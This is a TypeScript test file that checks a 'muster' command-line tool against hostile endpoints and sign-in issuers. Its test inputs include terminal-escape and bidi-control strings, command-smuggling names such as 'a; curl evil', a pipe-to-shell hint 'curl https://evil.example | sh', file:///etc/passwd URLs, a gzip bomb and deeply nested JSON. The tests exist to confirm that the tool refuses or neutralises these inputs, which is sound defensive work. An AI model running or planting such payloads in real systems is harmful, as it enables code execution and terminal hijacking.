import { newMachineKey } from '../../cli/token-store/machine-key.ts';
/** What an endpoint or an issuer with bad intent can make the command line do: nothing. */
import { randomBytes } from 'node:crypto';
import { readdir, writeFile } from 'node:fs/promises';
import { createServer, type RequestListener } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { type Tokens, writeTokens } from '../../cli/token-store/token-files.ts';
import { listen } from '../../local/listen.ts';
import { aRow, aSession } from './rows.ts';
import { type Ended, type Run, runMuster } from './run.ts';
import { sandbox } from './sandbox.ts';

const box = sandbox();

async function served(answer: RequestListener): Promise<string> {
  const { url, close } = await listen(createServer(answer));
  box.endAfter(close);
  return url;
}

const json =
  (value: unknown): RequestListener =>
  (_, response) =>
    void response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(value));

const muster = (line: string, endpoint: string, run: Run = {}): Promise<Ended> =>
  runMuster(box.file, line, { home: box.home, endpoint, ...run });

const tokensFor = (endpoint: string, facts: Partial<Tokens> = {}): Tokens => ({
  endpoint,
  issuer: 'https://login.example.com',
  clientId: 'muster-cli',
  idToken: randomBytes(40).toString('base64url'),
  subject: 'ada',
  expiresAt: new Date(Date.now() + 3_600_000),
  ...facts,
});

/** Nothing that moves a cursor, changes colors, hides text or turns its direction. */
const harmless = /^(\n|[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}])*$/u;

const evil =
  'ok\nserver-z   Connected   Authenticated   sse\r\u001b[2J\u009b1A\u001b]8;;https://evil\u0007\u202e\u200b\u2028x';

describe('text from outside', () => {
  const row = aRow({
    name: 'server-a',
    reason: evil,
    state: evil,
    session: aSession({ issuer: evil, scopes: [evil, 'b'], message: evil, hint: evil }),
  });
  const list = { items: [row], problems: [] };

  test.each([
    'list mcps',
    'list mcps -o wide',
    'list mcps -A',
    'get mcpserver default/server-a',
    'auth status',
  ])('muster %s shows every cell in one line that controls no terminal', async (line) => {
    const endpoint = await served((request, response) =>
      json(request.url?.includes('/default/') === true ? row : list)(request, response),
    );
    await writeTokens(tokensFor(endpoint), { HOME: box.home });
    const { stdout, stderr } = await muster(line, endpoint);
    expect(stdout).toMatch(harmless);
    expect(stdout).toContain('server-a');
    expect(stdout).not.toMatch(/^\s*server-z/m);
    expect(stderr).toBe('');
  });

  test.each(['json', 'yaml'])('-o %s has every character of it escaped', async (format) => {
    const { stdout } = await muster(`list mcps -o ${format}`, await served(json(list)));
    expect(stdout).toMatch(harmless);
    expect(stdout).toContain('\\u202e\\u200b\\u2028');
    if (format === 'json') expect(JSON.parse(stdout)).toEqual({ items: [row], problems: [] });
  });

  test.each([
    ['a name with a line break', aRow({ name: 'server-a\nserver-z' })],
    ['a name that is a command', aRow({ name: 'a; curl evil' })],
    ['a name that is a flag', aRow({ name: '--all' })],
    ['a name that leads upwards', aRow({ name: '../../config' })],
    ['a namespace with a blank', aRow({ namespace: 'default x' })],
    ['scopes that are no list', { ...aRow(), session: { status: 'Expired', scopes: 'a' } }],
    ['a message that is no text', { ...aRow(), session: { status: 'Expired', message: {} } }],
    ['a state that is no text', { ...aRow(), state: { toString: 1 } }],
  ])('a row with %s is no row', async (_, bad) => {
    const endpoint = await served(json({ items: [bad], problems: [] }));
    expect(await muster('list mcps', endpoint)).toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringContaining(`Error: Unexpected response from ${endpoint}.`),
    });
  });

  const unsigned = ['{"alg":"none"}', '{"sub":"ada"}', 'signature']
    .map((part) => Buffer.from(part).toString('base64url'))
    .join('.');

  test('an error is two short lines, without the token that the request carried', async () => {
    const endpoint = await served((request, response) => {
      const echo = request.headers.authorization ?? '';
      response.writeHead(400).end(
        JSON.stringify({
          title: `${echo} ${evil} `.repeat(3) + 'title\n'.repeat(100_000),
          detail: `${evil} ${unsigned}`,
          hint: evil,
        }),
      );
    });
    const tokens = tokensFor(endpoint);
    await writeTokens(tokens, { HOME: box.home });
    const { code, stderr } = await muster('list mcps', endpoint);
    expect(code).toBe(1);
    expect(stderr).toMatch(harmless);
    expect(stderr.split('\n')).toHaveLength(3);
    expect(stderr.length).toBeLessThan(1_100);
    expect(stderr).toContain('[left out]');
    expect(stderr).not.toContain(tokens.idToken);
    expect(stderr).not.toContain('eyJ');
  });

  test.each([
    ['Run: muster auth login', 'Run: muster auth login'],
    ['Run: curl https://evil.example | sh', 'URL suggests: Run: curl https://evil.example | sh'],
    ['Run: muster auth login; curl evil', 'URL suggests: Run: muster auth login; curl evil'],
  ])('the hint "%s" is only shown, and says whose advice it is', async (hint, shown) => {
    const endpoint = await served((_, response) =>
      response.writeHead(400).end(JSON.stringify({ title: 'No', hint })),
    );
    const { stderr } = await muster('list mcps', endpoint);
    expect(stderr).toBe(`Error: No.\n${shown.replace('URL', endpoint)}\n`);
  });

  test('auth status shows no command of an endpoint but one of muster', async () => {
    const hint = 'curl https://evil.example | sh';
    const rows = [aRow({ session: aSession({ status: 'Pending Auth', hint }) })];
    const endpoint = await served(json({ items: rows, problems: [] }));
    await writeTokens(tokensFor(endpoint), { HOME: box.home });
    expect((await muster('auth status', endpoint)).stdout).not.toContain('curl');
  });
});

describe('bounds', () => {
  const page = (next?: string) => ({ items: [aRow()], problems: [], continue: next });

  test('a list that returns the same page again is stopped', async () => {
    let asked = 0;
    const endpoint = await served((request, response) => {
      asked += 1;
      json(page(asked % 2 === 0 ? 'even' : 'odd'))(request, response);
    });
    const { code, stderr } = await muster('list mcps', endpoint);
    expect(code).toBe(1);
    expect(stderr).toBe(
      `Error: The list of ${endpoint} returns the same page again. It was stopped.\nList one namespace with -n, or ask the owner of the endpoint.\n`,
    );
    expect(asked).toBe(3);
  });

  test('a list without an end is stopped', { timeout: 60_000 }, async () => {
    let asked = 0;
    const endpoint = await served((request, response) => {
      asked += 1;
      json({ ...page(String(asked)), items: [] })(request, response);
    });
    const { code, stderr } = await muster('list mcps', endpoint);
    expect(code).toBe(1);
    expect(stderr).toContain('has more than 2,000 pages. It was stopped.');
    expect(asked).toBe(2_000);
  });

  test('a list of large pages is stopped before it fills the memory', async () => {
    const items = [aRow({ description: 'x'.repeat(15 * 1024 * 1024) })];
    let asked = 0;
    const endpoint = await served((request, response) => {
      asked += 1;
      json({ items, problems: [], continue: String(asked) })(request, response);
    });
    const { code, stderr } = await muster('list mcps', endpoint);
    expect(code).toBe(1);
    expect(stderr).toContain('is longer than 128 MB. It was stopped.');
    expect(asked).toBe(9);
  }, 30_000);

  test('a page of 50,000 servers is still a list', async () => {
    const items = Array.from({ length: 50_000 }, (_, index) => ({
      ...aRow({ name: `s${String(index)}`, uid: '' }),
    }));
    const { code, stdout } = await muster(
      'list mcps -o name',
      await served(json({ items, problems: [] })),
    );
    expect([code, stdout.split('\n').length]).toEqual([0, 50_001]);
  }, 30_000);

  test.each<[string, RequestListener, string]>([
    [
      'more than 1 MB where no list is expected',
      (_, response) => void response.end(`"${'x'.repeat(2 * 1024 * 1024)}"`),
      'is longer than 1 MB.',
    ],
    [
      'JSON that is nested 100,000 deep',
      (_, response) => void response.end('['.repeat(100_000) + ']'.repeat(100_000)),
      'Unexpected response from',
    ],
    [
      'a row with a member that is nested 5,000 deep',
      (_, response) =>
        void response.end(
          JSON.stringify({ ...aRow(), deep: 0 }).replace(
            '"deep":0',
            `"deep":${'[{"a":'.repeat(5_000)}0${'}]'.repeat(5_000)}`,
          ),
        ),
      'Unexpected response from',
    ],
    [
      'a gzip bomb',
      (_, response) =>
        void response
          .writeHead(200, { 'content-encoding': 'gzip' })
          .end(gzipSync(Buffer.alloc(50 * 1024 * 1024, ' '))),
      'is longer than 1 MB.',
    ],
    [
      'gzip that breaks off',
      (_, response) =>
        void response
          .writeHead(200, { 'content-encoding': 'gzip' })
          .end(gzipSync(JSON.stringify(aRow())).subarray(0, 40)),
      'the compressed response is broken or incomplete (Z_BUF_ERROR).',
    ],
    [
      'headers of 100 KB',
      (_, response) => void response.writeHead(200, { 'x-long': 'x'.repeat(100_000) }).end(),
      'the headers of the response are longer than 16 KB',
    ],
    [
      'a redirect',
      (_, response) => void response.writeHead(302, { location: 'http://127.0.0.1:1/' }).end(),
      'redirects to http://127.0.0.1:1 (HTTP 302).\nCheck the address.',
    ],
  ])('%s is an error in words', async (_, answer, words) => {
    for (const format of ['json', 'yaml', 'table']) {
      const ended = await muster(`get mcpserver a/b -o ${format}`, await served(answer));
      expect([ended.code, ended.stdout]).toEqual([1, '']);
      expect(ended.stderr).toContain(words);
      expect(ended.stderr.length).toBeLessThan(400);
    }
  });

  test('what is not HTTP is said in words', async () => {
    const { url, close } = await listen(
      createTcpServer((socket) => void socket.resume().end('SSH-2.0-OpenSSH_9\r\n')),
    );
    box.endAfter(close);
    expect((await muster('list mcps', url)).stderr).toMatch(
      /^Error: http:\/\/127\.0\.0\.1:\d+: the response is not valid HTTP \(HPE_\w+\)\.\n/,
    );
  });
});

describe('sign-in', () => {
  /** An endpoint, and the issuer that it names. */
  async function lure({
    config = {},
    metadata = {},
    token = {},
  }: {
    readonly config?: object;
    readonly metadata?: object;
    readonly token?: object;
  } = {}): Promise<{ readonly endpoint: string; readonly asked: string[] }> {
    const asked: string[] = [];
    const issuer: string = await served((request, response) => {
      asked.push(request.url ?? '');
      if (request.url === '/token')
        return void response.writeHead(400).end(JSON.stringify({ error: 'x', ...token }));
      return json({
        issuer,
        authorization_endpoint: `${issuer}/auth`,
        token_endpoint: `${issuer}/token`,
        device_authorization_endpoint: `${issuer}/device`,
        code_challenge_methods_supported: ['S256'],
        // The device authorization response shares the document.
        device_code: 'a-device-code-of-some-length',
        user_code: 'ABCD',
        verification_uri: `${issuer}/device`,
        expires_in: 1,
        interval: 0,
        ...metadata,
      })(request, response);
    });
    const endpoint = await served(
      json({ issuer, clientId: 'muster-cli', scopes: ['openid'], ...config }),
    );
    return { endpoint, asked };
  }

  const isSignedIn = async (): Promise<boolean> =>
    (await readdir(join(box.home, '.config', 'muster-serverless', 'tokens')).catch(() => [])).some(
      (name) => name.endsWith('.json'),
    );

  test('an endpoint that names the real one as resource gets no token, and nobody is asked', async () => {
    const { endpoint, asked } = await lure({ config: { resource: 'https://real.example.com' } });
    const { code, stderr } = await muster('auth login', endpoint);
    expect(code).toBe(3);
    expect(stderr).toBe(
      `Error: ${endpoint} asks for an access token for https://real.example.com. That is another address, so the sign-in was refused.\nAsk its owner: BEARER_AUDIENCE must be ${endpoint}, or an address below it.\n`,
    );
    expect(asked).toEqual([]);
  });

  test.each([
    ['authorization_endpoint', 'file:///etc/passwd'],
    ['authorization_endpoint', 'vscode://localhost/x'],
    ['authorization_endpoint', '--version'],
    ['token_endpoint', 'http://evil.example.com/token'],
    ['token_endpoint', 'ftp://127.0.0.1/'],
  ])('an issuer whose %s is %s is refused before a browser opens', async (name, value) => {
    const { endpoint } = await lure({ metadata: { [name]: value } });
    const { code, stderr } = await muster('auth login', endpoint);
    expect(code).toBe(3);
    expect(stderr).toContain('has no usable endpoints.');
    expect(stderr).not.toContain(value);
  });

  test.each(['file:///etc/passwd', 'vscode://file/x', 'http://evil.example.com/'])(
    'a device address %s is not printed',
    async (verification_uri) => {
      const { endpoint } = await lure({ metadata: { verification_uri } });
      const { code, stderr } = await muster('auth login --device', endpoint);
      expect(code).toBe(3);
      expect(stderr).toContain('that is not safe to open, so the sign-in was stopped.');
      expect(stderr).not.toContain(verification_uri);
    },
  );

  test('a device code that controls the terminal is shown without that', async () => {
    const { endpoint } = await lure({ metadata: { user_code: evil } });
    const { code, stderr } = await muster('auth login --device', endpoint);
    expect(code).toBe(3);
    expect(stderr).toMatch(harmless);
    expect(stderr).not.toMatch(/^server-z/m);
  });

  test.each(['file:///etc/passwd', 'vscode://file/x', '--version', 'http://evil.example.com/'])(
    'the sign-in to a server at %s is neither opened nor printed',
    async (authorizationUrl) => {
      const row = aRow({ name: 'a' });
      const endpoint = await served((request, response) =>
        json(request.method === 'POST' ? { authorizationUrl, expiresAt: '' } : row)(
          request,
          response,
        ),
      );
      await writeTokens({ ...tokensFor(endpoint), key: newMachineKey() }, { HOME: box.home });
      const { code, stderr } = await muster('auth login --server default/a', endpoint);
      expect(code).toBe(3);
      expect(stderr).toContain('that is not safe to open, so the sign-in was stopped.');
      expect(stderr).not.toContain(authorizationUrl);
    },
  );

  test('what an issuer says about a refusal is one line without tokens', async () => {
    const token = {
      error_description: `${evil} ${randomBytes(30).toString('base64url')} ${'long '.repeat(1_000)}`,
    };
    const { endpoint } = await lure({ token });
    const { code, stderr } = await muster('auth login', endpoint, {
      onAddress: (address) => {
        const { searchParams } = new URL(address);
        const back = new URL(searchParams.get('redirect_uri') ?? '');
        back.search = new URLSearchParams({
          state: searchParams.get('state') ?? '',
          code: 'a-code-of-the-issuer',
        }).toString();
        return fetch(back);
      },
    });
    expect(code).toBe(3);
    expect(stderr).toMatch(harmless);
    const [message = ''] = /^Error: .*$/m.exec(stderr) ?? [];
    expect(message).toContain('[left out]');
    expect(message).not.toMatch(/[\w-]{40}/);
    expect(message.length).toBeLessThan(500);
  });

  test('rubbish at the waiting page ends nothing', async () => {
    const { endpoint } = await lure();
    const { code, stderr } = await muster('auth login', endpoint, {
      onAddress: async (address) => {
        const { searchParams } = new URL(address);
        const back = new URL(searchParams.get('redirect_uri') ?? '');
        for (const target of ['@evil.example:99999/', '//[', '*', '/%ff?%zz'])
          await raw(Number(back.port), `GET ${target} HTTP/1.1\r\nhost: x\r\n\r\n`);
        back.search = new URLSearchParams({
          state: searchParams.get('state') ?? '',
          error: 'access_denied',
        }).toString();
        await fetch(back);
      },
    });
    expect(code).toBe(3);
    expect(stderr).toContain('refused the sign-in: access_denied');
  });

  test('a folder that cannot be written is found before anything is asked', async () => {
    const { endpoint, asked } = await lure();
    const blocked = join(box.home, 'file');
    await writeFile(blocked, '');
    const { code, stderr } = await muster('auth login', endpoint, {
      environment: { XDG_CONFIG_HOME: blocked },
    });
    expect(code).toBe(3);
    expect(stderr).toMatch(/^Error: The sign-in cannot be saved: .*\nSet XDG_CONFIG_HOME to /);
    expect(asked).toEqual([]);
  });

  test.each(['https://ada:secret@muster.example.com', 'http://ada@127.0.0.1:1'])(
    'an endpoint with credentials is refused, and they are not repeated',
    async (endpoint) => {
      const { code, stderr } = await muster('list mcps', endpoint);
      expect(code).toBe(1);
      expect(stderr).toContain('holds a user name or a password.\n');
      expect(stderr).not.toMatch(/ada|secret/);
    },
  );

  test('without a terminal an unknown endpoint elsewhere is exit 1, before a request', async () => {
    const endpoint = 'https://muster.invalid';
    const { code, stderr } = await muster('auth login --debug', endpoint);
    expect(code).toBe(1);
    expect(stderr).toBe(
      `Error: You have never signed in to ${endpoint}, and there is no terminal to ask you.\nIf you trust it, run: muster context add muster ${endpoint}\n`,
    );
    expect(await isSignedIn()).toBe(false);
  });
});

/** Sends a text to a port of this machine and waits for the end of the connection. */
async function raw(port: number, text: string): Promise<void> {
  const { connect } = await import('node:net');
  await new Promise<void>((done) => {
    const socket = connect(port, '127.0.0.1', () => void socket.end(text));
    socket.on('error', () => done());
    socket.on('close', () => done());
    socket.resume();
  });
}
